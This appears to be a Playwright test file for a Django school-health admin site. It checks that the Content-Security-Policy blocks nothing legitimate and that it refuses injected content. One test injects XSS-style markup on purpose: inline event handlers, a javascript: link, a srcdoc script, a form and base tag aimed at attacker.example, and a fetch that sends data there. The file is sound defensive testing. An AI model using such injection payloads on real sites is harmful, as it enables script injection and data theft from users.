"""Every page that a person uses, under the Content-Security-Policy: nothing of it is refused, and all of it works."""

import pytest
from django.urls import reverse
from django.utils.csp import CSP
from playwright.sync_api import Page, expect

from core.content_security import PLAIN_PAGE
from core.models import UserRole
from health.models import Allergy
from tests.admin.pages import page as address_of
from tests.browser.visits import Visit, child_with_much, log_in, pages_of
from tests.leaks.addresses import pages
from tests.security.violations import Reports

pytestmark = [pytest.mark.slow, pytest.mark.any_database]

# Puts markup into the page as a stored or reflected mistake of ours would, and scripts as an attacker.
_INJECT = """
markup => {
    const place = document.createElement("div");
    place.innerHTML = markup;
    document.body.append(place);
    const script = document.createElement("script");
    script.textContent = "window.taken = 'script element'";
    document.body.append(script);
}
"""

_DIALOG = """
address => {
    const frame = document.createElement("iframe");
    frame.src = address;
    frame.classList.add("related-modal-frame");
    document.body.append(frame);
    frame.style.height = "600px";
}
"""


def addresses_of(role: UserRole, visit: Visit) -> list[str]:
    """The pages of a role, and whatever of the site without a parameter answers by a page: errors, too."""
    found = dict.fromkeys(pages_of(role).values())
    for address in sorted({each.address({}) for each in pages() if not each.parameters} - found.keys()):
        answer = visit.browser.request.get(visit.address + address, max_redirects=0)
        if answer.headers.get("content-type", "").startswith("text/html") and answer.body():
            found[address] = None
    return list(found)


@pytest.mark.parametrize("role", list(UserRole), ids=str)
def test_no_page_breaks_its_policy(role, page: Page, demo_district):
    reports = Reports(page.context)
    visit = log_in(page, demo_district, role)

    for address in addresses_of(role, visit):
        page.goto(visit.address + address)
    page.wait_for_load_state("networkidle")

    assert reports.taken() == ""


def test_the_picture_for_an_authenticator_app_is_seen(page: Page, demo_district):
    reports = Reports(page.context)
    visit = log_in(page, demo_district, UserRole.NURSE)
    visit.open(reverse("admin:account_second_factor"))

    page.get_by_role("button", name="Set up an authenticator app").click()
    picture = page.locator(".account-picture")
    expect(picture).to_be_visible()

    assert picture.evaluate("image => image.complete && image.naturalWidth") > 100
    assert reports.taken() == ""


def test_what_moves_on_the_pages_still_moves(page: Page, demo_district):
    reports = Reports(page.context)
    visit = log_in(page, demo_district, UserRole.ADMIN)
    child = child_with_much()

    # The charts of the home page.
    expect(page.locator("canvas.chart").first).to_be_visible()
    drawn = page.evaluate("Object.keys(Chart.instances).length")
    # The menu and its width, which Alpine sets.
    width = page.locator("#nav-sidebar").evaluate("element => element.style.width")
    # The search for students, a dialog.
    page.keyboard.press("Control+k")
    page.keyboard.type(child.student_number)
    expect(page.get_by_role("option").first).to_be_visible()
    page.keyboard.press("Escape")
    # Whose account it is, a menu.
    visit.open(reverse("admin:index"))
    # The boxes and actions of a list.
    visit.open(address_of(type(child), "changelist"))
    page.locator("input.action-select").first.check()
    bar = page.locator("#changelist-actions")
    expect(bar).to_be_visible()
    bar_width = bar.evaluate("element => element.style.width")
    # A form: the calendar, the clock, and what is chosen by typing.
    visit.open(address_of(Allergy, "add"))
    page.locator(".select2-selection").first.click()
    page.locator(".select2-search__field").first.fill(child.last_name[:4])
    expect(page.locator(".select2-results__option").first).to_be_visible()
    page.keyboard.press("Escape")
    page.locator(".date-icon >> visible=true").first.click()
    expect(page.locator(".calendarbox >> visible=true")).to_have_count(1)
    page.keyboard.press("Escape")
    # A form in a dialog, which is a frame; as Unfold makes it, where a form offers one.
    page.evaluate(_DIALOG, address_of(type(child), "add") + "?_popup=1")
    expect(page.frame_locator("iframe.related-modal-frame").locator("#id_last_name")).to_be_visible()
    # The growth chart.
    visit.open(reverse("admin:core_student_chart", args=[child.pk]))
    page.wait_for_load_state("networkidle")

    assert drawn >= 1
    assert width.endswith("px")
    assert bar_width.endswith("px")
    assert reports.taken() == ""


@pytest.mark.parametrize("name", ["chart", "card", "list of student", "new allergy"])
def test_a_script_that_somebody_slipped_into_a_page_does_not_run(name, page: Page, demo_district):
    reports = Reports(page.context)
    visit = log_in(page, demo_district, UserRole.NURSE)
    visit.open(pages_of(UserRole.NURSE)[name])

    page.evaluate(
        _INJECT,
        """
        <button id="handler" onclick="window.taken = 'event handler'">x</button>
        <a id="slipped" href="javascript:window.taken = 'javascript address'">x</a>
        <iframe srcdoc="<script>parent.taken = 'frame'</script>"></iframe>
        <object data="/static/whitecross/icon.svg"></object>
        <form id="stolen" action="https://attacker.example/" method="post"><input name="q"></form>
        <base href="https://attacker.example/">
        <div style="position: fixed; inset: 0">over everything</div>
        """,
    )
    page.evaluate("document.getElementById('handler').click()")
    page.evaluate("document.getElementById('slipped').click()")
    page.evaluate("document.getElementById('stolen').submit()")
    page.evaluate("fetch('https://attacker.example/?stolen').catch(() => null)")
    expected = {
        *("script-src-elem", "script-src-attr", "style-src-attr", "form-action", "base-uri", "connect-src"),
        *("object-src",),
    }
    refused: set[str] = set()
    for _ in range(100):  # each is reported when the browser has the time
        page.wait_for_timeout(100)
        refused |= {report.split()[1] for report in reports.taken().splitlines() if report.startswith("VIOLATION")}
        if expected <= refused:
            break

    assert page.evaluate("window.taken ?? null") is None
    assert page.url == demo_district + pages_of(UserRole.NURSE)[name]
    assert page.evaluate("document.baseURI").startswith(demo_district)
    assert expected <= refused


def test_on_a_page_without_alpine_nobody_compiles_code(page: Page, demo_district):
    reports = Reports(page.context)
    visit = log_in(page, demo_district, UserRole.NURSE)
    compile_code = "try { new Function('window.taken = true')() } catch (error) { error.name }"
    visit.open(pages_of(UserRole.NURSE)["card"])

    page.evaluate("code => { const timer = setTimeout(code); }", compile_code)
    page.wait_for_function("() => new Promise(done => setTimeout(() => done(true), 50))")

    assert page.evaluate("window.taken ?? null") is None
    assert "VIOLATION script-src eval" in reports.taken()
    assert CSP.UNSAFE_EVAL not in PLAIN_PAGE["script-src"]
